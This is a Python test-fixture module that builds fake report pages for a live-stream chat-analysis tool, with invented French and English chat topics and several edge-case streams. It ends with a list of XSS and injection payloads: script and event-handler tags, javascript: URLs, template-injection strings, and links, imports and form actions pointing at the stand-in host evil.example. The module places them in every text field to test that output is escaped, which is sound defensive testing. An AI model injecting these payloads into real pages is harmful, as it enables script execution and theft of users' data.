"""Seeded pages as the report's query makes them: an invented French and English stream, and streams at the edges."""

import math
import random

WORDS = [
    (
        "pâtes · carbo · noctaPates",
        [
            "la carbo sans crème svp",
            "team pâtes ce soir",
            "noctaPates noctaPates",
            "c'est cuit depuis 20 minutes tes pâtes la, égoutte-les avant que ça devienne de la purée pour bébé",
        ],
    ),
    (
        "son · grésille · micro",
        [
            "le son grésille",
            "micro coupé ?",
            "on t'entend plus du tout",
            "baisse la musique et monte le micro, c'est inaudible depuis dix bonnes minutes",
        ],
    ),
    (
        "boss · dragon · phase",
        [
            "phase 2 !!",
            "le dragon va te oneshot",
            "roll left when he breathes fire",
            "use the fire resist potion before phase two or you get deleted instantly",
        ],
    ),
    ("giveaway · !join · winner", ["who won", "rigged lol", "is the giveaway still open?"]),
    ("hier · stream · replay", ["le replay est où", "j'ai raté hier", "tu peux remettre la vod ?"]),
    ("build · épée · stats", ["mets tout en force", "ton build est nul", "why no dex?"]),
    ("chat · noir · table", ["LE CHAT", "il est sur la table encore", "what's the cat's name?"]),
    ("PC · config · fps", ["quelle config ?", "60 fps stable?", "c'est quoi ta carte graphique"]),
    ("musique · titre · playlist", ["titre de la musique ?", "banger", "playlist link pls"]),
    ("raid · bienvenue · noctaRaid", ["bienvenue les raiders", "noctaRaid noctaRaid", "coucou de chez Lila"]),
    ("foot · match · penalty", ["y a penalty là", "2-1 !!!", "regardez pas le match, restez ici"]),
    ("météo · pluie · Lyon", ["il pleut à Lyon", "grosse chaleur ici", "canicule demain"]),
    ("speedrun · strat · record", ["wr pace?", "new strat", "skip the second door"]),
    ("lag · serveur · ping", ["ça lag", "servers are dying", "ping 300"]),
    ("anniversaire · joyeux · 30", ["joyeux anniversaire !", "30 ans le vieux", "happy birthday"]),
    ("café · thé · tasse", ["thé > café", "belle tasse", "coffee at midnight?"]),
    ("traduction · english · subtitles", ["english please", "any english viewers?", "subs would be nice"]),
    ("pizza · ananas · débat-qui-ne-finira-jamais", ["ananas sur pizza = ban", "pineapple is fine", "mods, ban him"]),
    ("école · exam · révisions", ["exam demain", "révise au lieu de regarder", "bac dans 3 jours"]),
    ("voyage · Japon · avion", ["tu pars quand au Japon", "14h d'avion courage", "Kyoto > Tokyo"]),
    ("skin · mod · cheval", ["le cheval modé mdr", "what mod is this", "horse armor dlc"]),
    ("coupe · cheveux · barbe", ["nouvelle coupe ?", "la barbe te va bien", "nice haircut"]),
    ("sub · prime · merci", ["merci pour le sub", "prime is free", "12 mois déjà"]),
    ("livre · fantasy · tome", ["tome 3 quand", "read the book first", "trop long ce livre"]),
    ("planning · demain · heure", ["tu stream demain ?", "quelle heure ?", "schedule?"]),
]
SPOKEN = [
    "mdr",
    "lol",
    "GG",
    "wow",
    "encore",
    "jure",
    "no way",
    "c'est vrai ça",
    "1v1",
    "help",
    "why",
    "attends",
    "il a dit quoi",
    "same",
    "trop fort",
    "again",
]
SHARES = {
    "opinion": 0.52,
    "reaction": 0.19,
    "emote_only": 0.1,
    "question": 0.09,
    "greeting": 0.04,
    "copypasta": 0.02,
    "command": 0.02,
    "poll_answer": 0.01,
    "bot": 0.01,
}


def make_page(
    n_topics=25,
    hours=3.2,
    n_messages=12000,
    seed=1,
    name="noctambule",
    started="2026-09-12T17:03:12+00:00",
    n_points=1600,
):
    """Return a page of a lively stream with planted topics."""
    rng = random.Random(seed)
    n_bins = max(1, round(hours * 60))
    starts = [60 * i for i in range(n_bins)]
    names = [
        WORDS[i]
        if i < len(WORDS)
        else (f"sujet{i} · mot{i} · topic{i}", [f"on parle du sujet {i}", f"topic {i} again"])
        for i in range(n_topics)
    ]
    weights = [1 / (i + 2) ** 0.75 for i in range(n_topics)]
    budget = 0.61 * n_messages
    by_theme, topics, episodes = {}, [], []
    for theme_id, weight in enumerate(weights):
        total = budget * weight / sum(weights)
        middles = [(rng.uniform(0.05, 0.95) * n_bins, rng.uniform(2, 9)) for _ in range(rng.choice((1, 1, 2, 3)))]
        if theme_id == 1:
            middles = [(25, 2.5)]
        base = 0.15 if theme_id in (0, 4, 6) else 0.01
        shape = [
            base / n_bins * 6 + sum(math.exp(-((i - m) ** 2) / (2 * s * s)) / s for m, s in middles)
            for i in range(n_bins)
        ]
        counts = [int(total * value / sum(shape) + rng.random()) for value in shape]
        by_theme[str(theme_id)] = counts
        for middle, spread in sorted(middles):
            low, high = max(0, int(middle - 2 * spread)), min(n_bins - 1, int(middle + 2 * spread))
            episodes.append(
                {
                    "theme_id": theme_id,
                    "first_seconds": 60.0 * low,
                    "last_seconds": 60.0 * high + 59,
                    "n_messages": sum(counts[low : high + 1]),
                    "n_viewers": max(1, sum(counts[low : high + 1]) // 3),
                }
            )
        active = [i for i, n in enumerate(counts) if n] or [0]
        label, examples = names[theme_id]
        angle, radius = theme_id * 2.399, math.sqrt((theme_id + 0.5) / n_topics) * 8
        topics.append(
            {
                "theme_id": theme_id,
                "label": label,
                "terms": label.split(" · ") + ["encore", "truc", "live"][: theme_id % 4],
                "examples": examples,
                "n_messages": sum(counts),
                "n_texts": max(1, sum(counts) // 2),
                "n_viewers": max(1, sum(counts) // 3),
                "first_seconds": 60.0 * active[0] + 12,
                "last_seconds": 60.0 * active[-1] + 40,
                "peak_seconds": 60.0 * counts.index(max(counts)),
                "x": radius * math.cos(angle),
                "y": radius * math.sin(angle),
            }
        )
    episodes.sort(key=lambda episode: episode["first_seconds"])
    for i, episode in enumerate(episodes):
        episode["episode_id"] = i
    grouped = sum(topic["n_messages"] for topic in topics)
    for topic in topics:
        topic["share"] = topic["n_messages"] / max(grouped, 1)
    topics.sort(key=lambda topic: -topic["n_messages"])
    other = {
        kind: [max(0, round(SHARES[kind] * n_messages / n_bins * (0.6 + 0.8 * rng.random()))) for _ in starts]
        for kind in ("reaction", "emote_only", "greeting", "copypasta", "command")
    }
    for i in (25, 26, 97, 98, 151):
        if i < n_bins:
            other["reaction"][i] += 40
    n = [sum(by_theme[key][i] for key in by_theme) + sum(other[key][i] for key in other) for i in range(n_bins)]
    peaks = [
        {"start_seconds": 60 * i, "n": n[i], "expected": round(0.4 * n[i]), "label": label, "quote": quote}
        for i, label, quote in (
            (25, "son · grésille", "on t'entend plus du tout, le micro est mort"),
            (31, "micro · retour", "ça y est on t'entend !"),
            (97, "boss · dragon", "PHASE DEUX il est full life aaaaaah"),
            (104, "boss · mort", "GG après 14 essais"),
            (151, "raid · bienvenue", "bienvenue les raiders de chez Lila, installez-vous"),
        )
        if i < n_bins
    ]
    total = sum(n)
    return {
        "stream": {
            "stream_id": f"twitch:{name}:{seed}",
            "platform": "twitch",
            "channel": name,
            "title": "On cuisine des pâtes et on tue un dragon",
            "started_at": started,
            "duration_seconds": 60.0 * n_bins,
            "n_messages": total,
            "n_viewers": total // 4,
            "n_payers": total // 100,
        },
        "summary": "The chat spent most of its evening on pâtes · carbo, then on the sound and the dragon. The loudest "
        "minute was 0:25, when the sound broke: “on t'entend plus du tout, le micro est mort”. "
        "One message in eleven was a question.",
        "minutes": {"bin_seconds": 60, "start_seconds": starts, "n": n, "by_theme": by_theme, "other": other},
        "peaks": peaks,
        "topics": topics,
        "episodes": episodes,
        "map": make_map(topics, rng, n_points, 60.0 * n_bins),
        "types": [
            {"message_type": kind, "n_messages": round(total * part), "share": part} for kind, part in SHARES.items()
        ],
        "left_out": [
            {"reason": "reaction, emote or greeting", "n_messages": round(0.33 * total)},
            {"reason": "copy of a message sent again and again", "n_messages": round(0.02 * total)},
            {"reason": "written by a bot", "n_messages": round(0.01 * total)},
        ],
        "window": None,
        "made": {
            "encoder": "use-multilingual-3 (512 numbers a text)",
            "leash_seconds": 600,
            "version": "0.1.0",
            "seconds": 8.31,
            "generated_at": "2026-09-13T08:00:00+00:00",
            "seed": 0,
            "n_neighbors": 15,
        },
    }


def make_map(topics, rng, n_points, duration):
    """Return the points of a topic map around the topics' middles."""
    points = {"x": [], "y": [], "theme_id": [], "n": [], "text": [], "offset_seconds": [], "viewer": []}
    for topic in topics:
        for i in range(max(2, round(n_points * topic["share"]))):
            example = topic["examples"][i % len(topic["examples"])]
            points["x"].append(round(rng.gauss(topic["x"], 0.55), 3))
            points["y"].append(round(rng.gauss(topic["y"], 0.5), 3))
            points["theme_id"].append(topic["theme_id"])
            points["n"].append(1 if rng.random() < 0.8 else rng.randint(2, 60))
            points["text"].append(example if i < len(topic["examples"]) else f"{rng.choice(SPOKEN)} {example}")
            points["offset_seconds"].append(round(min(duration, max(0.0, rng.gauss(topic["peak_seconds"], 500))), 1))
            points["viewer"].append(f"v{rng.randrange(16**5):05x}")
    return points


def make_empty():
    """Return a stream that is known but has no message."""
    return {
        "stream": {
            "stream_id": "t:empty",
            "platform": "twitch",
            "channel": "silence",
            "title": None,
            "started_at": None,
            "duration_seconds": 0.0,
            "n_messages": 0,
            "n_viewers": None,
            "n_payers": 0,
        },
        "summary": "",
        "minutes": {"bin_seconds": 60, "start_seconds": [], "n": [], "by_theme": {}, "other": {}},
        "peaks": [],
        "topics": [],
        "episodes": [],
        "map": {"x": [], "y": [], "theme_id": [], "n": [], "text": [], "offset_seconds": None, "viewer": []},
        "types": [],
        "left_out": [],
        "window": None,
        "made": {},
    }


def make_one_message():
    """Return a stream with a single message and no topic."""
    page = make_empty()
    page["stream"] |= {
        "stream_id": "t:one",
        "channel": "alone",
        "n_messages": 1,
        "n_viewers": 1,
        "duration_seconds": 0.0,
        "started_at": "2026-09-12T17:03:12+00:00",
    }
    page["minutes"] |= {"start_seconds": [0], "n": [1]}
    page["types"] = [{"message_type": "greeting", "n_messages": 1, "share": 1.0}]
    page["left_out"] = [{"reason": "greeting", "n_messages": 1}]
    return page


def make_without_times():
    """Return a stream whose source knows no times."""
    page = make_page(n_topics=12, n_messages=2000, seed=5, name="sans-horloge", started=None)
    page["stream"] |= {"duration_seconds": 0.0, "n_viewers": None}
    page["minutes"] = {"bin_seconds": 60, "start_seconds": [], "n": [], "by_theme": {}, "other": {}}
    page |= {"peaks": [], "episodes": [], "summary": ""}
    page["map"]["offset_seconds"] = None
    for topic in page["topics"]:
        topic |= {"first_seconds": None, "last_seconds": None, "peak_seconds": None}
    return page


PAYLOADS = [
    "<script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<body onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1>",
    "<a href=javascript:window.ran=1>click</a>",
    "javascript:window.ran=1",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1>",
    "<audio src=x onerror=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<marquee onstart=window.ran=1>",
    "<object data=javascript:window.ran=1>",
    "<embed src=javascript:window.ran=1>",
    "<math><mtext></mtext><mglyph><style><img src onerror=window.ran=1>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button autofocus>x",
    "'-(window.ran=1)-'",
    '"-(window.ran=1)-"',
    "\\'-(window.ran=1)//",
    "${window.ran=1}",
    "{{constructor.constructor('window.ran=1')()}}",
    "<!--<script>window.ran=1",
    "--><script>window.ran=1</script>",
    "]]><script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "\\u003cscript\\u003ewindow.ran=1",
    "line\u2028window.ran=1\u2029end",
    "datum.constructor.constructor('window.ran=1')()",
    "__proto__",
    "http://evil.example/?steal",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "\u202egnp.exe \u2066<b>\u2069",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307algo <b>",
    "nul\x00 and \x1b[31m escape",
]
"""Texts that try to run, load, turn or break something, for every field that shows text."""


def make_hostile(payload, number):
    """Return a small page with the payload in every field that holds text."""
    page = make_page(n_topics=2, hours=0.5, n_messages=120, seed=7, n_points=8)
    page["stream"] |= {"stream_id": f"{number}:{payload}", "platform": payload, "channel": payload, "title": payload}
    page["summary"] = payload
    for topic in page["topics"]:
        topic |= {"label": payload, "terms": [payload + " 2"], "examples": [payload, payload, payload]}
    for peak in page["peaks"]:
        peak |= {"label": payload, "quote": payload}
    size = len(page["map"]["x"])
    page["map"] |= {"text": [payload] * size, "viewer": [payload] * size}
    page["types"] = [{"message_type": payload, "n_messages": 1, "share": 1.0}]
    page["left_out"] = [{"reason": payload, "n_messages": 1}]
    page["minutes"]["other"] = {payload: page["minutes"]["other"]["reaction"]}
    page["made"] = {"encoder": payload, payload: payload, "version": payload, "nested": {payload: [payload]}}
    return page
